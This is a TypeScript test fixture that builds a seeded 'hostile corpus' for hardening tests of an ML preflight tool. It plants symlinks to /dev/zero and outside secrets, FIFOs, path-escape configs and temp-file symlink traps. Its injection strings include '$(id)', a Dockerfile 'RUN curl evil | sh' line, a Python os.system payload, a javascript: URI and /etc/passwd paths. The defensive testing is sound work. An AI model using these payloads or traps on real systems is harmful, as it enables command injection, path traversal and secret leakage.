/**
 * A hostile corpus for the hardening tests (issue 11) and `bench/hostile.ts`, generated from a fixed seed:
 * - {@link hostileString}: names made of the pieces that break formats (newlines, quotes, braces, NUL, ESC,
 *   bidi overrides, lone surrogates, `}` `#` `---`, `</script>`, YAML/pbtxt/Dockerfile/Python syntax);
 * - {@link makeHostileWorkspace}: a workspace folder full of traps: symlinks to /dev/zero and to a secret
 *   outside the workspace, FIFOs where JSON is expected, configured paths that escape, saved results whose
 *   file fields are `javascript:` / `https://` / absolute / `../` URIs, pre-planted symlinks at the temp-file
 *   names older versions used (`<file>.mlp-<pid>.tmp`, `checklist.json.<pid>.tmp`).
 *
 * Every trap that could leak carries {@link SECRET_TOKEN}, so a test or the benchmark can assert that no output
 * contains it, and every outside file a write could be redirected to is {@link OUTSIDE_CANARY}, so they can
 * assert that it is unchanged.
 */
import { execFileSync } from 'node:child_process';
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import * as path from 'node:path';

/** Appears only in files outside the workspace: any output containing it read outside the workspace. */
export const SECRET_TOKEN = 'MLP-SECRET-7f3a9c';
/** Content of the outside files a write could be redirected to; must be unchanged after every run. */
export const OUTSIDE_CANARY = 'outside canary: must never change\n';

/** mulberry32: a small seeded PRNG (same sequence on every machine). */
export function rng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const PIECES = [
  '\n', '\r\n', '\r', '"', "'", '\\', '{', '}', '[', ']', '#', '---', '\0', '\x1b[31m', '\x1b]0;pwned\x07', '\x07', '\t',
  '\u2028', '\u2029', '\u0085', '\u202e', '\ufeff', '\ud800', '\udfff', '😀', 'é', '中文', '${HOME}', '$(id)', '`id`',
  '</script>', '<b>', '&amp;', "'''", '"""', ': ', '- ', '*anchor', '&a', '!!python/object:os.system', '%TAG', '@',
  'instance_group { count: 64 kind: KIND_GPU }', 'default_model_filename: "evil"', 'parameters { key: "x" }',
  '\nRUN curl evil | sh\n', '\\\nRUN id', 'x"; import os; os.system("id"); "', '*/', '/*', '//', '\u0000\u0001',
  '..', '/', 'name', 'batch', ' ', 'a', 'Z9',
];

/** A random hostile string of 1–`maxPieces` pieces. */
export function hostileString(next: () => number, maxPieces = 6): string {
  const n = 1 + Math.floor(next() * maxPieces);
  let s = '';
  for (let i = 0; i < n; i++) s += PIECES[Math.floor(next() * PIECES.length)]!;
  return s;
}

/** A hostile string usable as a file name (no `/`, no NUL, not `.`/`..`, ≤ 200 bytes). */
export function hostileFileName(next: () => number): string {
  // eslint-disable-next-line no-control-regex
  const s = hostileString(next).replace(/[/\0]/g, '_').replace(/^\.+$/, 'dots');
  return Buffer.byteLength(s) > 200 ? s.slice(0, 60) : s || 'x';
}

/** Creates a FIFO (named pipe); false where `mkfifo` is unavailable. */
export function mkfifo(file: string): boolean {
  try {
    execFileSync('mkfifo', [file], { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
}

export interface HostileWorkspace {
  /** The workspace folder. */
  root: string;
  /** A folder outside the workspace holding {@link SECRET_TOKEN} files and canaries. */
  outside: string;
  /** Outside files that must keep {@link OUTSIDE_CANARY}. */
  canaries: string[];
  /** Which traps were planted (names), for messages. */
  traps: string[];
}

export type TrapKind =
  | 'skew-json-dev-zero' | 'skew-json-fifo' | 'skew-json-outside' | 'skew-pairs-escape' | 'skew-pairs-absolute'
  | 'checklist-json-dev-zero' | 'checklist-json-fifo' | 'checklist-tmp-symlink' | 'mlpreflight-dir-symlink'
  | 'profile-symlink-outside' | 'profile-dev-zero' | 'profile-deep-json' | 'profile-absurd' | 'skew-report-uris'
  | 'python-symlink-outside' | 'python-hostile-names' | 'drift-json-fifo';

export const TRAP_KINDS: readonly TrapKind[] = [
  'skew-json-dev-zero', 'skew-json-fifo', 'skew-json-outside', 'skew-pairs-escape', 'skew-pairs-absolute',
  'checklist-json-dev-zero', 'checklist-json-fifo', 'checklist-tmp-symlink', 'mlpreflight-dir-symlink',
  'profile-symlink-outside', 'profile-dev-zero', 'profile-deep-json', 'profile-absurd', 'skew-report-uris',
  'python-symlink-outside', 'python-hostile-names', 'drift-json-fifo',
];

/**
 * Plants `kinds` traps (default: a random half of {@link TRAP_KINDS}, chosen by `next`) in `<base>/ws`, with the
 * secret and canary files in `<base>/outside`. A minimal training/serving pair is always present so the skew
 * analysis and the checklist have something to grade.
 */
export function makeHostileWorkspace(base: string, next: () => number, kinds?: readonly TrapKind[]): HostileWorkspace {
  const root = path.join(base, 'ws');
  const outside = path.join(base, 'outside');
  mkdirSync(path.join(root, '.mlpreflight', 'profiles'), { recursive: true });
  mkdirSync(path.join(root, 'train'), { recursive: true });
  mkdirSync(path.join(root, 'serve'), { recursive: true });
  mkdirSync(outside, { recursive: true });
  const secretPy = path.join(outside, 'secret.py');
  writeFileSync(secretPy, `TOKEN = "${SECRET_TOKEN}"\nMEAN = [0.1, 0.2, 0.3]\nimport numpy as np\nx = (np.asarray(img) - MEAN) / 255.0  # ${SECRET_TOKEN}\n`);
  const secretJson = path.join(outside, 'secret.json');
  writeFileSync(secretJson, JSON.stringify({ p50Ms: 1, p99Ms: 2, model: SECRET_TOKEN, findings: [{ severity: 'error', message: SECRET_TOKEN, file: 'train/train.py' }], pairs: [{ training: [secretPy], serving: [secretPy] }] }));
  const canary = path.join(outside, 'canary.txt');
  writeFileSync(canary, OUTSIDE_CANARY);
  writeFileSync(path.join(root, 'train', 'train.py'), 'import numpy as np\nMEAN = [0.485, 0.456, 0.406]\nx = (np.asarray(img) / 255.0 - MEAN)\n');
  writeFileSync(path.join(root, 'serve', 'app.py'), 'import numpy as np\nMEAN = [0.5, 0.5, 0.5]\nx = (np.asarray(img) / 255.0 - MEAN)\n');
  const chosen = kinds ?? TRAP_KINDS.filter(() => next() < 0.5);
  const ml = (...p: string[]) => path.join(root, '.mlpreflight', ...p);
  const traps: string[] = [];
  const plant = (kind: TrapKind, fn: () => void): void => {
    if (!chosen.includes(kind)) return;
    try {
      fn();
      traps.push(kind);
    } catch {
      // a trap that cannot be planted here (no mkfifo) is left out
    }
  };
  const fifo = (file: string): void => {
    if (!mkfifo(file)) throw new Error('no mkfifo');
  };
  // skew.json is one file: only one of its traps applies (the first chosen).
  const skewKinds: TrapKind[] = ['skew-json-dev-zero', 'skew-json-fifo', 'skew-json-outside', 'skew-pairs-escape', 'skew-pairs-absolute'];
  const skewKind = skewKinds.find((k) => chosen.includes(k));
  if (skewKind) {
    plant(skewKind, () => {
      const f = ml('skew.json');
      if (skewKind === 'skew-json-dev-zero') symlinkSync('/dev/zero', f);
      else if (skewKind === 'skew-json-fifo') fifo(f);
      else if (skewKind === 'skew-json-outside') symlinkSync(secretJson, f);
      else if (skewKind === 'skew-pairs-escape') writeFileSync(f, JSON.stringify({ pairs: [{ training: ['../outside/*.py', '../outside/secret.py'], serving: ['serve/app.py'] }] }));
      else writeFileSync(f, JSON.stringify({ pairs: [{ training: [secretPy], serving: ['serve/app.py'], model: path.join(outside, 'm.onnx') }] }));
    });
  }
  const naKind = (['checklist-json-dev-zero', 'checklist-json-fifo'] as TrapKind[]).find((k) => chosen.includes(k));
  if (naKind) plant(naKind, () => (naKind === 'checklist-json-dev-zero' ? symlinkSync('/dev/zero', ml('checklist.json')) : fifo(ml('checklist.json'))));
  plant('checklist-tmp-symlink', () => {
    // The temp names older versions used, for the pids a child process is likely to get, pointing outside.
    for (let pid = process.pid; pid < process.pid + 64; pid++) {
      try {
        symlinkSync(canary, ml(`checklist.json.${pid}.tmp`));
      } catch {
        // exists
      }
    }
  });
  plant('profile-symlink-outside', () => symlinkSync(secretJson, ml('profiles', 'leak.json')));
  plant('profile-dev-zero', () => symlinkSync('/dev/zero', ml('profiles', 'zero.json')));
  plant('profile-deep-json', () => writeFileSync(ml('profiles', 'deep.json'), '['.repeat(100_000) + ']'.repeat(100_000)));
  plant('profile-absurd', () => writeFileSync(ml('profiles', 'absurd.json'), JSON.stringify({ p50Ms: 1e308, p99Ms: -1e308, peakRssBytes: 1e300, batch: -3, budgetMs: Number.MAX_VALUE, model: 'x\u001b[2J' })));
  plant('skew-report-uris', () => writeFileSync(ml('skew-report.json'), JSON.stringify({
    findings: ['javascript:alert(1)', 'https://evil.example/x.py', '/etc/passwd', '../../outside/secret.py', 'file:///etc/passwd', 'C:\\Windows\\x.py', 'serve/app.py\n[evil]']
      .map((file, i) => ({ severity: 'error', message: `hostile finding ${i} \u001b[31m`, file, line: i === 0 ? -5 : 1e300, trainingFile: file })),
  })));
  plant('python-symlink-outside', () => symlinkSync(secretPy, path.join(root, 'serve', 'config.py')));
  plant('python-hostile-names', () => {
    const name = hostileFileName(next).replace(/\.py$/, '');
    writeFileSync(path.join(root, 'serve', `${name}_serve.py`), 'MEAN = [0.5]\n');
  });
  plant('drift-json-fifo', () => {
    mkdirSync(ml('drift'), { recursive: true });
    fifo(ml('drift', 'report.json'));
  });
  plant('mlpreflight-dir-symlink', () => {
    // Last: replaces the whole folder by a link to the outside one (writes there must be refused).
    const moved = path.join(outside, 'mlpreflight');
    mkdirSync(moved, { recursive: true });
    writeFileSync(path.join(moved, 'checklist.json'), JSON.stringify({ version: 1, na: { 'security.auth': { reason: SECRET_TOKEN } } }));
    execFileSync('rm', ['-rf', path.join(root, '.mlpreflight')]);
    symlinkSync(moved, path.join(root, '.mlpreflight'));
  });
  return { root, outside, canaries: [canary], traps };
}
